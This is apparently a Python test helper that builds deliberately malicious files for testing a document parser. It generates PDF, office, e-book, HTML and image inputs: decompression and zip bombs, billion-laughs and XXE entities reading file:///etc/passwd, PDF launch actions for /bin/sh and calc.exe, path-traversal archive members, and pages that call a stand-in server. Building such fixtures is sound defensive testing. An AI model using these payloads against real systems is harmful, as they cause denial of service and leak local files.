"""Files that were made to do harm, each by one idea. None is larger than it must be."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from PIL import Image

from tests.helpers.formats import epub, odt, picture, zipped
from tests.helpers.papers import docx, paragraph, pdf

Made = Iterator[tuple[str, bytes]]

_LAUGHS = "<!DOCTYPE x [" + "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12)
)


def objects(*bodies: str | bytes, root: int = 1, trailer: str = "") -> bytes:
    """Return a PDF of these objects, numbered from 1."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(bodies, start=1):
        places.append(out.tell())
        data = body if isinstance(body, bytes) else body.encode("latin-1")
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, data))
    table = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    for place in places:
        out.write(b"%010d 00000 n \n" % place)
    out.write(
        f"trailer\n<< /Size {len(places) + 1} /Root {root} 0 R{trailer} >>\n"
        f"startxref\n{table}\n%%EOF\n".encode()
    )
    return out.getvalue()


def stream(data: bytes, more: str = "") -> bytes:
    """Return a stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more.encode(), data)


def page(more: str = "", content: bytes | str = b"BT /F1 12 Tf 72 720 Td (words) Tj ET") -> bytes:
    """Return a PDF of one page with ``more`` in its dictionary."""
    drawn = content if isinstance(content, bytes) else content.encode()
    body = drawn if drawn.startswith(b"<<") else stream(drawn)
    return objects(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        f"/Resources << /Font << /F1 5 0 R >> >> {more} >>",
        body,
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def _flate(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, f"/Filter [{'/FlateDecode ' * times}]")


def pdfs(server: str) -> Made:
    """Give PDFs; ``server`` is an address that must never be asked."""
    catalog, kid = "<< /Type /Catalog /Pages 2 0 R {} >>", "<< /Type /Page /Parent 2 0 R {} >>"
    pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    for name, root in (
        ("self", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
        ("many", f"<< /Type /Pages /Kids [{'2 0 R ' * 500}] /Count 500 >>"),
        ("liar", "<< /Type /Pages /Kids [3 0 R] /Count 19999 >>"),
        ("negative", "<< /Type /Pages /Kids [3 0 R] /Count -1 >>"),
        ("none", "<< /Type /Pages /Kids [] /Count 0 >>"),
        ("missing", "<< /Type /Pages /Kids [77 0 R 78 0 R] /Count 2 >>"),
    ):
        yield f"tree-{name}", objects(catalog.format(""), root, kid.format(""))
    tower = [
        f"<< /Type /Pages /Parent {n} 0 R /Kids [{n + 2} 0 R] /Count 1 >>" for n in range(1, 3000)
    ]
    yield "tree-tower", objects(catalog.format(""), *tower, kid.format(""))
    many = "<< /Type /Pages /Kids [" + "3 0 R " * 100_000 + "] /Count 100000 >>"
    yield "100000-pages", objects(catalog.format(""), many, kid.format(""))
    for name, box in (
        ("huge", "[0 0 1000000000 1000000000]"),
        ("long", "[0 0 1 1e30]"),
        ("negative", "[0 0 -600 -800]"),
        ("empty", "[0 0 0 0]"),
        ("words", "[/a (b) null 7]"),
        ("nan", "[nan inf -inf 1]"),
    ):
        yield f"box-{name}", page(f"/MediaBox {box} /CropBox {box}")
    outlines = "/Outlines 4 0 R"
    for name, items in (
        ("next", ["<< /Title (a) /Parent 4 0 R /Next 5 0 R /Dest [3 0 R /Fit] >>"]),
        ("first", ["<< /Title (a) /Parent 4 0 R /First 4 0 R /Last 4 0 R >>"]),
        ("deep", [f"<< /Title (a) /First {n} 0 R /Last {n} 0 R >>" for n in range(6, 3000)]),
    ):
        root = "<< /First 5 0 R /Last 5 0 R >>"
        yield (
            f"outline-{name}",
            objects(catalog.format(outlines), pages, kid.format(""), root, *items),
        )
    good = pdf("words")
    table = good.rfind(b"xref\n0 ")
    loop = good.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % table)
    yield "xref-loop", loop
    yield "xref-nowhere", good.replace(b"startxref\n%d" % table, b"startxref\n999999999")
    yield "no-trailer", good[: good.rfind(b"trailer")]
    for name, action in (
        ("script", f"<< /S /JavaScript /JS (app.launchURL('{server}')) >>"),
        ("launch", "<< /S /Launch /F (/bin/sh) /Win << /F (calc.exe) >> >>"),
        ("uri", f"<< /S /URI /URI ({server}) >>"),
        ("remote", f"<< /S /GoToR /F << /FS /URL /F ({server}) >> /D [0 /Fit] >>"),
        ("form", f"<< /S /SubmitForm /F ({server}) >>"),
    ):
        shown = f"/AA << /O {action} /C {action} >> /Annots [<< /Subtype /Link /A {action} >>]"
        yield (
            f"action-{name}",
            page(shown).replace(
                b"/Type /Catalog", b"/Type /Catalog /OpenAction " + action.encode()
            ),
        )
    yield "deep-array", page("/X " + "[" * 100_000 + "]" * 100_000)
    yield "deep-dictionary", page("/X " + "<< /A " * 50_000 + "0" + " >>" * 50_000)
    yield "deep-content", page(content=b"q " * 200_000 + b"[" * 100_000)
    yield "deep-text", page(content=b"BT /F1 12 Tf " + b"(" * 100_000 + b")" * 100_000 + b" Tj ET")
    yield "flate-zeros", page(content=_flate(bytes(60_000_000)))
    yield "flate-twice", page(content=_flate(bytes(60_000_000), 2))
    yield "flate-text", page(content=_flate(b"BT /F1 1 Tf (words ) Tj ET " * 400_000))
    yield "flate-lines", page(content=_flate(b"0 0 m 9 9 l S " * 1_000_000))
    hidden = zlib.compress(bytes(30_000_000), 9)
    bomb = stream(hidden, "/Type /ObjStm /N 100000 /First 10 /Filter /FlateDecode")
    yield "object-stream", objects(catalog.format("/Extra 4 0 R"), pages, kid.format(""), bomb)
    form = stream(
        b"/X Do",
        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
    )
    yield (
        "form-loop",
        page("/Resources << /XObject << /X 6 0 R >> >>", "/X Do").replace(
            b"xref\n0 6", b"6 0 obj\n" + form + b"\nendobj\nxref\n0 6"
        ),
    )
    tree = [
        stream(
            b"/X Do " * 10,
            f"/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {n} 0 R >> >>",
        )
        for n in range(6, 20)
    ]
    yield (
        "form-tree",
        objects(
            catalog.format(""),
            pages,
            kid.format("/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>"),
            stream(b"/X Do"),
            *tree,
        ),
    )
    image = stream(
        b"x",
        "/Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB",
    )
    yield (
        "image-huge",
        objects(
            catalog.format(""),
            pages,
            kid.format("/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>"),
            stream(b"612 0 0 792 0 0 cm /X Do"),
            image,
        ),
    )
    glyph = stream(b"9 0 d0 BT /F1 9 Tf (a) Tj ET")
    font = (
        "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] "
        "/FirstChar 97 /LastChar 97 /Widths [9] /CharProcs << /a 6 0 R >> "
        "/Encoding << /Differences [97 /a] >> "
        "/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    yield (
        "font-loop",
        objects(
            catalog.format(""),
            pages,
            kid.format("/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>"),
            stream(b"BT /F1 12 Tf (aaa) Tj ET"),
            font,
            glyph,
        ),
    )
    yield "length-liar", good.replace(b"/Length ", b"/Length 99999999")
    yield "only-head", b"%PDF-1.7\n"


def packed(server: str) -> Made:
    """Give office files and e-books."""
    outside = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{server}/e">]>'
    local = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    dtd = f'<!DOCTYPE x SYSTEM "{server}/x.dtd">'
    para = "<text:p>{}</text:p>"
    for name, head, words in (
        ("laughs", _LAUGHS + "]>", "&l11;"),
        ("entity", outside, "&e;"),
        ("local", local, "&e;"),
        ("dtd", dtd, "x"),
    ):
        yield f"{name}.docx", docx(paragraph(words), head=head)
        yield f"{name}.odt", odt(para.format(words), head=head)
        chapter = f"{head}<html><body><p>{words}</p></body></html>".encode()
        yield f"{name}.epub", epub("<p>x</p>", members=[("OEBPS/c2.xhtml", chapter)])
    zeros = ("zeros.bin", bytes(30_000_000))
    yield "zeros.docx", docx(paragraph("x"), members=[zeros])
    yield "zeros.odt", odt(para.format("x"), members=[zeros])
    yield "zeros.epub", epub("<p>x</p>", members=[zeros])
    yield "long-xml.docx", docx("<w:p/>" * 3_000_000)
    yield "many.docx", docx(paragraph("x"), members=[(f"{n}.bin", b"") for n in range(5_000)])
    yield "deep.docx", docx("<w:tbl><w:tr><w:tc>" * 5_000)
    yield "deep.odt", odt("<text:section>" * 30_000 + "</text:section>" * 30_000)
    yield "deep.epub", epub("<div>" * 30_000 + "</div>" * 30_000)
    yield "spaces.odt", odt('<text:p><text:s text:c="2000000000"/></text:p>' * 50)
    cells = '<table:table-cell table:number-columns-repeated="1000000"/>' * 200
    yield "cells.odt", odt(f"<table:table><table:table-row>{cells}</table:table-row></table:table>")
    link = f'<draw:frame><draw:image xlink:href="{server}/p.png"/></draw:frame>'
    yield "remote.odt", odt(para.format(link))
    for source in (f"{server}/p.png", "../../../../etc/passwd", "file:///etc/passwd"):
        yield "remote.epub", epub(f'<img src="{source}"/><link href="{server}/s.css"/><p>x</p>')
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="p1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/attachedTemplate" Target="{server}/t.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    yield (
        "template.docx",
        docx(paragraph("x"), members=[("word/_rels/document.xml.rels", relations.encode())]),
    )
    yield "quoted.docx", quoted(docx(paragraph("x" * 9_000)), 400)
    yield "zip-in-zip.docx", zipped(("word/document.xml", zipped(("x", bytes(9_000_000)))))
    yield "names.epub", epub("<p>x</p>", members=[("../../../tmp/evil", b"x"), ("/etc/evil", b"x")])
    yield "spine.epub", epub(*["<p>x</p>"] * 1_500)
    yield "office.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000)
    yield "pages.rtf", b"{\\rtf1" + b"{" * 100_000


def quoted(data: bytes, times: int) -> bytes:
    """Return a ZIP whose list names its largest member again and again."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        largest = max(archive.infolist(), key=lambda each: each.file_size)
    end = data.rfind(b"PK\x05\x06")
    start = int.from_bytes(data[end + 16 : end + 20], "little")
    listed = data[start:end]
    entry = listed[listed.find(largest.filename.encode()) - 46 :]
    entry = entry[: 46 + len(largest.filename)]
    long = listed + entry * times
    count = struct.unpack("<H", data[end + 10 : end + 12])[0] + times
    tail = bytearray(data[end:])
    tail[8:12] = struct.pack("<HH", count, count)
    tail[12:16] = struct.pack("<I", len(long))
    return data[:start] + long + bytes(tail)


def pages(server: str) -> Made:
    """Give web pages, texts and drawings."""
    for name, inside in (
        ("image", f'<img src="{server}/i.png" srcset="{server}/j.png 2x">'),
        ("script", f'<script src="{server}/s.js">fetch("{server}")</script>'),
        ("style", f'<style>@import "{server}/s.css"; p{{background:url({server}/b)}}</style>'),
        ("inline", f'<p style="background:url({server}/b)" onclick="x()">x</p>'),
        ("link", f'<link rel="stylesheet" href="{server}/s.css"><base href="{server}">'),
        ("refresh", f'<meta http-equiv="refresh" content="0; url={server}">'),
        ("frame", f'<iframe src="{server}"></iframe><object data="{server}"></object>'),
        ("video", f'<video poster="{server}/p"><source src="{server}/v"></video>'),
        ("svg", f'<svg><image href="{server}/i"/><script>x</script><use href="{server}#a"/></svg>'),
        ("data", "<img src='data:text/html,<script>x</script>'><a href='data:text/html,x'>x</a>"),
        ("data-svg", "<img src='data:image/svg+xml;base64,PHN2Zy8+'>"),
        ("math", f'<math><a xlink:href="{server}">x</a></math>'),
        ("form", f'<form action="{server}"><input type="image" src="{server}/i"></form>'),
        ("file", '<img src="file:///etc/passwd"><a href="file:///etc/passwd">x</a>'),
    ):
        yield (
            f"{name}.html",
            f"<!doctype html><html><body>{inside}<p>words</p></body></html>".encode(),
        )
        yield f"{name}.md", f"# Title\n\n{inside}\n\n![x]({server}/p.png)\n".encode()
        yield f"{name}.epub", epub(f"{inside}<p>words</p>")
    yield (
        "drawing.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{server}"/></svg>'.encode(),
    )
    yield "deep.html", b"<html>" + b"<div>" * 200_000 + b"x"
    yield "inline-deep.html", b"<html>" + b"<b>" * 100_000 + b"x"
    yield "table-deep.html", b"<html>" + b"<table><tr><td>" * 20_000 + b"x"
    yield "attributes.html", b"<html><p " + b" ".join(b"a%d=1" % n for n in range(100_000)) + b">x"
    yield "spans.html", b"<html><table><tr><td colspan=99999999 rowspan=99999999>x</table>"
    yield "laughs.html", (_LAUGHS + "]><html><p>&l11;</p>").encode()
    yield "line.txt", b"word " * 2_400_000
    yield "lines.txt", b"word\n" * 1_500_000
    yield "quotes.md", b">" * 50_000 + b"x"
    yield "brackets.md", b"[" * 20_000 + b"](" * 20_000
    yield "stars.md", b"*a **b " * 9_000
    yield "lists.md", b"".join(b" " * n + b"- x\n" for n in range(0, 2_000, 2))
    yield "marks.txt", b"a" + "\u0301".encode() * 500_000
    yield "controls.txt", "\u202e\u2066\ufeff".encode() * 100_000


def pictures(_: str) -> Made:
    """Give pictures."""
    for kind in ("PNG", "JPEG", "WEBP", "TIFF"):
        good = picture("Words", (600, 300), kind)
        for share in (0.1, 0.5, 0.95):
            yield f"cut-{share}.{kind.lower()}", good[: int(len(good) * share)]
    yield "bomb.png", _png(60_000, 60_000, b"")
    yield "zeros.png", _png(20_000, 20_000, zlib.compress(bytes(20_000 * 2_501), 9))
    yield "lie.png", _png(2**31 - 1, 2**31 - 1, b"x")
    yield "text.png", _png(1, 1, zlib.compress(b"\0\0"), zlib.compress(bytes(80_000_000), 9))
    tiff = bytearray(picture("", (60, 30), "TIFF"))
    first = int.from_bytes(tiff[4:8], "little")
    count = int.from_bytes(tiff[first : first + 2], "little")
    following = first + 2 + 12 * count
    tiff[following : following + 4] = first.to_bytes(4, "little")
    yield "loop.tiff", bytes(tiff)
    out = io.BytesIO()
    frame = Image.new("1", (1, 1))
    frame.save(out, "TIFF", save_all=True, append_images=[frame] * 600)
    yield "frames.tiff", out.getvalue()
    yield "phone.heic", b"\0\0\0\x18ftypheic" + bytes(100)


def _png(width: int, height: int, data: bytes, text: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    more = chunk(b"zTXt", b"a\0\0" + text) if text else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + more
        + chunk(b"IDAT", data)
        + chunk(b"IEND", b"")
    )


def all_bombs(server: str) -> Made:
    """Give every one, with a name that says what it is."""
    for name, data in pdfs(server):
        yield f"{name}.pdf", data
    makers: tuple[Callable[[str], Made], ...] = (packed, pages, pictures)
    for make in makers:
        yield from make(server)
